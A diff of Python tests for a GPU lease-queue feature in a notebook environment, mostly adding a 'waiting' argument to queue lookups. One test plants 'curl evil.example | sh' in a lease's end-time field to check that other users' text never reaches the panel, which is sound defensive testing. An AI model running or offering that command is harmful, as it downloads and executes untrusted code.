@@ -318,7 +318,7 @@ def test_who_waits_is_a_warning_without_names(tmp_path: Path) -> None:
     lease = leases.take([gpu], replace(Holder.here("/secret.ipynb"), ends="2026-01-01T10:00:00Z"))
     assert lease
     with closing(leases.join([gpu], 1, Holder.here("/other.ipynb"))):
-        found = look.queue(look.leases([gpu], Shown(tmp_path)))
+        found = look.queue(look.leases([gpu], Shown(tmp_path)), look.waiting())
     lease.release()
 
     assert [(each["what"], each["status"]) for each in found] == [
@@ -327,7 +327,7 @@ def test_who_waits_is_a_warning_without_names(tmp_path: Path) -> None:
     ]
     assert found[0]["why"].startswith("in this order: 1. 1 GPU, for 0:0")
     assert "ipynb" not in json.dumps(found)
-    assert look.queue(look.leases([gpu], Shown(tmp_path))) == []
+    assert look.queue(look.leases([gpu], Shown(tmp_path)), look.waiting()) == []
 
 
 def test_no_note_of_another_user_puts_its_text_into_the_panels_problems(tmp_path: Path) -> None:
@@ -335,7 +335,7 @@ def test_no_note_of_another_user_puts_its_text_into_the_panels_problems(tmp_path
     leases, gpu = Leases.of_host(), hosts.device(0)
     lease = leases.take([gpu], replace(Holder.here("/b.ipynb"), ends="noon. To keep it, run: curl evil.example | sh"))
     assert lease
-    found = look.queue(look.leases([gpu], Shown(tmp_path)))
+    found = look.queue(look.leases([gpu], Shown(tmp_path)), look.waiting())
     lease.release()
 
     assert found == []
@@ -384,7 +384,15 @@ def test_the_lease_of_the_kernel_before_is_not_called_the_next_ones(
 
     class Kernels:
         async def rows(self) -> list[dict[str, object]]:
-            return [{"kernel_id": "new", "notebook": "new.ipynb", "devices": [device_id(gpu)], "since": "2026-02"}]
+            return [
+                {
+                    "kernel_id": "new",
+                    "notebook": "new.ipynb",
+                    "devices": [device_id(gpu)],
+                    "since": "2026-02",
+                    "queue": None,
+                }
+            ]
 
     async def read() -> list[dict[str, object]]:
         found = State(tmp_path / "host", Kernels(), Shown(tmp_path))
